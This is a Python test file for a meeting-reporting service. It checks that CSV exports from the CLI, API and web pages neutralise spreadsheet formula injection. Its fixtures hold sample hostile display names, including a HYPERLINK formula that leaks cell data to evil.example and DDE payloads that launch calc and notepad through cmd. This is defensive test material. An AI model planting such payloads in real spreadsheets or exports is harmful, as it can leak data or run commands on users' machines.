"""CSV formula injection: hostile display names and file names reach no CSV as a live formula.

Participants choose their own display names, and a recording's
``outputFileName`` comes from the provider; a spreadsheet reads a cell that
begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return as a formula.
Every CSV writer (``receiver report ... --format csv``, ``/api/...?format=csv``,
``/ui/sessions/{id}/attendance.csv``) goes through
:func:`receiver.reports.formatting.spreadsheet_cell`, which puts a single
quote in front of such text (OWASP) and leaves numbers alone.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from click.testing import CliRunner
from pydantic import SecretStr
from sqlalchemy.orm import Session as OrmSession
from test_api import analyst_client

from receiver.cli.main import cli
from receiver.db.engine import make_engine
from receiver.processing.apply import apply_event
from receiver.providers.dyte.events import parse_event
from receiver.reports.formatting import spreadsheet_cell, to_csv

TOKEN = "csv-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}

HOSTILE_NAMES = {
    "p-eq": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "p-plus": "+cmd|' /C calc'!A0",
    "p-minus": "-2+3",
    "p-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "p-tab": "\t=1+1",
    "p-cr": "\r=1+1",
}
HOSTILE_FILE = "=cmd|' /C notepad'!A0.mp4"


def _load(engine) -> None:
    """Session ``s-x`` with one participant per hostile name (custom ids are hostile too) and a hostile recording file name."""
    meeting = {
        "id": "m-x",
        "sessionId": "s-x",
        "title": "=1+2",
        "status": "LIVE",
        "startedAt": "2026-03-02T10:00:00.000Z",
        "createdAt": "2026-03-02T10:00:00.000Z",
    }
    payloads = [{"event": "meeting.started", "meeting": meeting}]
    for index, (peer, name) in enumerate(HOSTILE_NAMES.items()):
        participant = {
            "peerId": peer,
            "userDisplayName": name,
            "customParticipantId": f"@key-{index}" if index == 0 else None,
            "joinedAt": "2026-03-02T10:00:00.000Z",
            "leftAt": "2026-03-02T10:30:00.000Z",
        }
        payloads.append({"event": "meeting.participantJoined", "meeting": meeting, "participant": participant})
        payloads.append({"event": "meeting.participantLeft", "meeting": meeting, "participant": participant})
    payloads.append(
        {
            "event": "meeting.ended",
            "meeting": {**meeting, "endedAt": "2026-03-02T11:00:00.000Z"},
            "reason": "HOST_ENDED_MEETING",
        }
    )
    payloads.append(
        {
            "event": "recording.statusUpdate",
            "meeting": meeting,
            "recording": {
                "id": "r-x",
                "sessionId": "s-x",
                "status": "UPLOADED",
                "outputFileName": HOSTILE_FILE,
                "downloadUrl": "https://recordings.example.com/r-x.mp4",
                "downloadUrlExpiry": "2099-01-01 00:00:00.000000Z",
            },
        }
    )
    now = datetime(2026, 3, 3, tzinfo=UTC)
    with OrmSession(engine) as db, db.begin():
        for event_id, payload in enumerate(payloads, start=1):
            apply_event(db, parse_event(payload), event_id=event_id, received_at=now, now=now)


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


def _assert_no_live_formula(text: str, *, expect: list[str]) -> None:
    """No cell begins with a formula trigger, and each expected value appears quoted."""
    cells = _cells(text)
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == [], live
    for value in expect:
        assert "'" + value in cells, (value, cells)


@pytest.fixture
def db(db_url: str) -> str:
    engine = make_engine(db_url)
    _load(engine)
    engine.dispose()
    return db_url


# --------------------------------------------------------------------------
# The one function
# --------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*HOSTILE_NAMES.values(), "=", "-", "@"])
def test_text_beginning_with_a_trigger_gets_a_quote(value: str) -> None:
    """Each OWASP trigger character at the start of text is neutralised by a leading single quote."""
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Alice", "a=b", " =1", "'=1", "", "2026-03-02T10:00:00Z", "Bob - the builder"])
def test_other_text_is_unchanged(value: str) -> None:
    """Text that does not start with a trigger (a trigger later in the text included) is left as it is."""
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3.25, Decimal("-1.5"), True, None])
def test_numbers_stay_numbers(value) -> None:
    """Numbers, negative ones included, stay numbers (not text), and a CSV column of them stays numeric."""
    assert spreadsheet_cell(value) is value
    assert to_csv([{"n": -2}, {"n": -0.5}], ["n"]) == "n\n-2\n-0.5\n"


def test_a_carriage_return_inside_text_is_quoted() -> None:
    """A CR inside a cell is quoted: a spreadsheet ending the row there would start a new row with ``=1+1``."""
    text = to_csv([{"name": "Bob\r=1+1", "n": 1}], ["name", "n"])
    assert text == 'name,n\n"Bob\r=1+1",1\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "n"], ["Bob\r=1+1", "1"]]


# --------------------------------------------------------------------------
# Every writer
# --------------------------------------------------------------------------


def test_cli_reports_neutralise_names_and_file_names(db: str) -> None:
    """`receiver report attendance|recordings|sessions --format csv` quote hostile names, file names and titles."""
    env = {"DATABASE_URL": db, "LOG_LEVEL": "WARNING"}
    runner = CliRunner()
    attendance = runner.invoke(cli, ["report", "attendance", "--session-id", "s-x", "--format", "csv"], env=env)
    assert attendance.exit_code == 0, attendance.output
    _assert_no_live_formula(attendance.output, expect=list(HOSTILE_NAMES.values()))
    recordings = runner.invoke(
        cli, ["report", "recordings", "--no-refresh-expired", "--format", "csv"], env=env, catch_exceptions=False
    )
    _assert_no_live_formula(recordings.output, expect=[HOSTILE_FILE])
    sessions = runner.invoke(cli, ["report", "sessions", "--format", "csv"], env=env)
    _assert_no_live_formula(sessions.output, expect=["=1+2"])


def test_api_and_page_csv_neutralise_every_hostile_name(db: str, settings) -> None:
    """/api/... ?format=csv and /ui/sessions/{id}/attendance.csv quote every hostile cell, the CR one included."""
    settings = settings.model_copy(update={"database_url": db, "api_tokens": SecretStr(TOKEN)})
    names = list(HOSTILE_NAMES.values())
    with analyst_client(settings) as client:
        for path in ("/api/sessions/s-x/attendance?format=csv", "/api/attendance?format=csv"):
            response = client.get(path, headers=AUTH)
            assert response.status_code == 200, path
            _assert_no_live_formula(response.text, expect=[*names, "@key-0"])
        page = client.get("/ui/sessions/s-x/attendance.csv", headers=AUTH)
        assert page.status_code == 200
        _assert_no_live_formula(page.text, expect=names)
        recordings = client.get("/api/recordings?format=csv", headers=AUTH)
        _assert_no_live_formula(recordings.text, expect=[HOSTILE_FILE])
        sessions = client.get("/api/sessions?format=csv", headers=AUTH)
        _assert_no_live_formula(sessions.text, expect=["=1+2"])
        # JSON is data, not a spreadsheet: names are served exactly as given.
        items = client.get("/api/sessions/s-x/attendance", headers=AUTH).json()["items"]
        assert sorted(i["display_name"] for i in items) == sorted(names)
